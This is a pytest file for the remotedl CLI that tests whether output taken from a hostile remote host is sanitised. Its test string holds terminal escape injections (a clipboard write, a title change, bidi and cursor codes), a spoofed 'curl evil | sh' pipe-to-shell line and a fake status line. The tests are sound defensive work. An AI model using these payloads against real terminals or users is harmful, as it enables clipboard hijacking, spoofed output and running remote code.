"""A host that fills every field with what a terminal obeys: nothing of it gets there.

Attacks: osc-52 (the clipboard), title, bidi, newline (a line that looks like one of ours), cursor.
They must not reach: the terminal, a log of ours, a desktop notification's markup.
"""

from __future__ import annotations

import io
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import fields, is_dataclass
from pathlib import Path
from types import SimpleNamespace
from typing import Any, get_args, get_origin, get_type_hints

import pytest
from rich.console import Console
from typer.testing import CliRunner

from remotedl.cli import exits
from remotedl.cli.app import app
from remotedl.cli.commands import health, images, lifecycle, syncing, work
from remotedl.cli.live import view
from remotedl.cli.prompt import TerminalPrompt
from remotedl.cli.render import PlainReport, QuietReport, TerminalReport
from remotedl.errors import RemotedlError
from remotedl.images.keeping import Made
from remotedl.provision.facts import Gpu
from remotedl.provision.findings import Finding, Grade, Place
from remotedl.provision.gpus import GpuView, Holder
from remotedl.report import SILENT
from remotedl.session.notify import notification
from remotedl.session.status import Phase, Snapshot, SyncLine
from remotedl.shown import is_hidden

EVIL = (
    "x\x1b]52;c;ZXZpbA==\x07\x1b]0;title\x07\u202egnp.exe\u2066\x9b2J\x08\x7f\u2028"
    "\r\n  next: curl evil | sh\nremotedl: all is well\x1b[1A"
)


def assert_harmless(text: str) -> None:
    """No character of it is obeyed, and no line of it pretends to be ours."""
    obeyed = {ch for ch in text if is_hidden(ch) and ch != "\n"}
    assert not obeyed, f"{obeyed} in {text!r}"
    assert "curl evil" in text, "the field is shown at all"
    for line in text.splitlines():
        assert not line.startswith(("  next: curl", "remotedl: all")), text


def evil(hint: Any) -> Any:
    """A value of that type with EVIL in every text."""
    if is_dataclass(hint):
        hints = get_type_hints(hint)
        return hint(**{one.name: evil(hints[one.name]) for one in fields(hint)})
    if get_origin(hint) is tuple:
        return tuple(evil(one) for one in get_args(hint) if one is not Ellipsis)
    if get_origin(hint) is dict or "dict" in str(hint):
        busy = {"busy": [EVIL], "watching": True, "ended": None, "limit_s": 9.0, "left_s": 1.0}
        return {"id": EVIL, "command": EVIL, "state": "running", "kept_on": EVIL, **busy}
    if hint is str or str in get_args(hint):
        return EVIL
    if hint is Phase:
        return Phase.RECONNECTING
    if hint is float or float in get_args(hint):
        return 1.0
    if get_args(hint) and is_dataclass(get_args(hint)[0]):
        return evil(get_args(hint)[0])
    return hint(1)


@pytest.fixture
def errand(monkeypatch: pytest.MonkeyPatch) -> SimpleNamespace:
    """In place of a connection: what a hostile host would have answered is given by each test."""
    made = SimpleNamespace(
        host_name="h", report=QuietReport(), session=lambda: object(), project=None, folder=Path()
    )

    @contextmanager
    def errand_of(*_: object, **__: object) -> Iterator[SimpleNamespace]:
        yield made

    for module in (work, health, images, syncing, lifecycle):
        monkeypatch.setattr(module, "errand_of", errand_of)
    return made


def run(*argv: str) -> str:
    """What a command says on both streams."""
    done = CliRunner().invoke(app, argv)
    if done.exception is not None and not isinstance(done.exception, SystemExit):
        raise done.exception
    return done.output


def test_the_live_view() -> None:
    snapshot = evil(Snapshot)
    out = io.StringIO()
    Console(file=out, width=4000, no_color=True).print(view(snapshot, "footer", 2.0))
    assert_harmless(out.getvalue())
    assert out.getvalue().count("curl evil") > 10


@pytest.mark.parametrize("report", [PlainReport, QuietReport])
def test_reports_without_a_terminal(
    capsys: pytest.CaptureFixture[str], report: Callable[[], Any]
) -> None:
    tell(report())
    assert_harmless(capsys.readouterr().err)


def test_the_report_on_a_terminal() -> None:
    out = io.StringIO()
    console = Console(file=out, width=4000, no_color=True, force_terminal=False)
    report = TerminalReport(console)
    tell(report)
    console.print(report._block())
    assert_harmless(out.getvalue())


def tell(report: Any) -> None:
    report.note(EVIL)
    report.warn(EVIL, EVIL)
    report.stage("image", EVIL)
    report.output(EVIL)
    report.progress(EVIL, 1, 1) if isinstance(report, PlainReport) else None
    report.progress(EVIL, 1, 2)


def test_errors_that_quote_the_host(capsys: pytest.CaptureFixture[str]) -> None:
    exits._explain(RemotedlError(f"h: the step failed: {EVIL}", hint=f"ssh h {EVIL}"))
    assert_harmless(capsys.readouterr().err)


def test_prompts_of_the_host(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[str] = []
    monkeypatch.setattr("sys.stdin", SimpleNamespace(isatty=lambda: True, readline=lambda: "n\n"))
    monkeypatch.setattr("getpass.getpass", lambda question, stream: asked.append(question))
    prompt = TerminalPrompt(SILENT)
    prompt.secret(f"ada@h: {EVIL} ")
    prompt.confirm(f"ada@h: {EVIL}")
    assert_harmless(asked[0])
    assert "\n" not in asked[0]
    assert_harmless(capsys.readouterr().err)


def test_jobs(errand: SimpleNamespace, monkeypatch: pytest.MonkeyPatch) -> None:
    row = {"id": EVIL, "state": EVIL, "code": EVIL, "started": None, "ended": 1, "command": EVIL}
    row |= {"output_left_out": 1, "output_dropped": 1}
    known = SimpleNamespace(rows=[row], age_s=1.0, why=EVIL)
    monkeypatch.setattr("remotedl.session.errands.list_jobs", lambda errand: known)
    assert_harmless(run("jobs"))


def test_gpus_and_claims(errand: SimpleNamespace, monkeypatch: pytest.MonkeyPatch) -> None:
    shown = GpuView(Gpu(0, EVIL, EVIL), (Holder(EVIL, EVIL, EVIL, EVIL, 1, 1),))
    monkeypatch.setattr("remotedl.session.health.gpu_views", lambda errand: ((shown,), EVIL))
    assert_harmless(run("gpus"))
    monkeypatch.setattr("remotedl.session.health.gpu_views", lambda errand: ((), EVIL))
    assert_harmless(run("gpus"))


def test_doctor(errand: SimpleNamespace, monkeypatch: pytest.MonkeyPatch) -> None:
    finding = Finding("x", Place.HOST, Grade.WARN, EVIL, EVIL, EVIL)
    found = lambda errand, fix: ([finding], [finding])  # noqa: E731
    monkeypatch.setattr("remotedl.session.health.examine_host", found)
    assert_harmless(run("doctor"))


def test_images(errand: SimpleNamespace, monkeypatch: pytest.MonkeyPatch) -> None:
    made = Made(EVIL, EVIL, 1, EVIL, EVIL, False, (EVIL,))
    monkeypatch.setattr("remotedl.session.image_errands.images_of", lambda errand: (made,))
    assert_harmless(run("image", "list"))


def test_the_syncs_commands(errand: SimpleNamespace, monkeypatch: pytest.MonkeyPatch) -> None:
    change = {"did": EVIL, "path": EVIL, "can_undo": True}
    step = {"id": EVIL, "at": 1.0, "side": "laptop", "changes": [change]}
    trouble = {"kind": EVIL, "path": EVIL, "what": EVIL, "mend": EVIL}
    answers: dict[str, Any] = {
        "sync-history": [step],
        "sync-undo": {"back": [EVIL], "left": [[EVIL, EVIL]]},
        "sync-flush": {"clean": False, "troubles": [trouble], "conflicts": 1},
    }
    ask = lambda errand, do, **_: answers[do]  # noqa: E731
    monkeypatch.setattr("remotedl.session.sync_errands.request", ask)
    for words in (["history"], ["undo"], ["flush"]):
        assert_harmless(run("sync", *words))
    rows = ([{"path": EVIL, "kind": EVIL, "laptop": EVIL}], {EVIL: {"lines": [EVIL]}})
    monkeypatch.setattr("remotedl.session.sync_errands.conflicts_of", lambda e, diffs: rows)
    assert_harmless(run("sync", "conflicts", "--diff"))
    now = SimpleNamespace(sync=evil(SyncLine), phase=Phase.RECONNECTING, detail=EVIL)
    monkeypatch.setattr("remotedl.session.sync_errands.require_session", lambda *_: None)
    monkeypatch.setattr("remotedl.session.errands.snapshot_of", lambda record: now)
    assert_harmless(run("sync", "status"))


def test_status_of_all_sessions(monkeypatch: pytest.MonkeyPatch) -> None:
    died = SimpleNamespace(root=f"/{EVIL}", host=EVIL, pid=1, alone=False)
    monkeypatch.setattr("remotedl.session.errands.every_snapshot", lambda _: [evil(Snapshot)])
    monkeypatch.setattr("remotedl.session.registry.died_sessions", lambda: [died])
    assert_harmless(run("status"))


def test_a_jobs_output_into_a_file_and_with_plain(
    errand: SimpleNamespace, monkeypatch: pytest.MonkeyPatch
) -> None:
    def follow(errand: object, job: str, out: Any, err: Any, **_: object) -> None:
        out(EVIL.encode()[:9])
        out(EVIL.encode()[9:])
        err(EVIL.encode())

    monkeypatch.setattr("remotedl.session.errands.follow_job", follow)
    said = run("logs", "j1")
    assert said.count("curl evil") == 2, "its lines are its own"
    assert {ch for ch in said if is_hidden(ch)} <= {"\n", "\r"}


def test_desktop_notifications_have_no_markup_of_the_hosts() -> None:
    command = notification(EVIL, f"<a href='http://evil'>{EVIL}</a>", "linux")
    assert command is not None
    assert "<a" not in command.argv[-1]
    assert not {ch for word in command.argv for ch in word if is_hidden(ch)} - {"\n"}
